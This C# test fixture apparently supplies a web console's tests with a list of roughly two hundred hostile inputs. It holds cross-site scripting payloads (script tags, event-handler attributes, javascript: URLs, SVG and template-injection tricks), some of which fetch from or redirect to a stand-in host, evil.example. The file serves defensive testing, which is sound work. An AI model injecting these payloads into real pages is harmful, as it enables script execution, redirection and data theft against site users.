namespace SupportStateMcp.Tests.WebConsole;

/// <summary>Texts that somebody writes who wants a page to do something: markup, addresses, escapes of one reader or another. Each calls <c>hit</c>, opens a dialog, or asks another server.</summary>
internal static class HostileTexts
{
    /// <summary>Where a text tries to lead: no such name is ever resolved.</summary>
    private const string Elsewhere = "https://evil.example";

    private static readonly string[] s_scripts = ["hit()", "alert(1)", "top.hit()", $"fetch('{Elsewhere}/x')", $"location='{Elsewhere}'"];

    private static readonly string[] s_forms =
    [
        "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script src=https://evil.example/x.js></script>", "</script><script>{0}</script>", "<img src=x onerror={0}>",
        "<img src=https://evil.example/pixel.gif>", "<svg onload={0}>", "<svg><script>{0}</script></svg>", "<svg><animate onbegin={0} attributeName=x dur=1s>", "<iframe src=javascript:{0}>",
        "<iframe srcdoc='<script>parent.{0}</script>'>", "<object data=https://evil.example/>", "<embed src=javascript:{0}>", "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import url(https://evil.example/x.css);</style>", "<style>*{{background:url(https://evil.example/b)}}</style>", "<body onload={0}>", "<input autofocus onfocus={0}>",
        "<details open ontoggle={0}>x</details>", "<video><source onerror={0}></video>", "<audio src=x onerror={0}>", "<marquee onstart={0}>x</marquee>", "<form action=https://evil.example><button>x",
        "<a href=javascript:{0}>x</a>", "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<template><script>{0}</script></template>",
        "<math><mtext><table><mglyph><style><img src=x onerror={0}>", "\"><script>{0}</script>", "' onmouseover='{0}", "\" autofocus onfocus=\"{0}\" x=\"", "`-{0}-`", "${{{0}}}", "{{{{constructor.constructor('{0}')()}}}}",
        "javascript:{0}", "[x](javascript:{0})", "![x](https://evil.example/p.png)", "<https://evil.example>", "data:text/html,<script>{0}</script>", "\u202e<script>{0}</script>\u202c",
    ];

    /// <summary>Two hundred of them, all different.</summary>
    public static IReadOnlyList<string> All { get; } =
        [.. s_forms.SelectMany(f => s_scripts.Select((s, i) => $"{i}: {string.Format(System.Globalization.CultureInfo.InvariantCulture, f, s)}")).Distinct(StringComparer.Ordinal)];
}
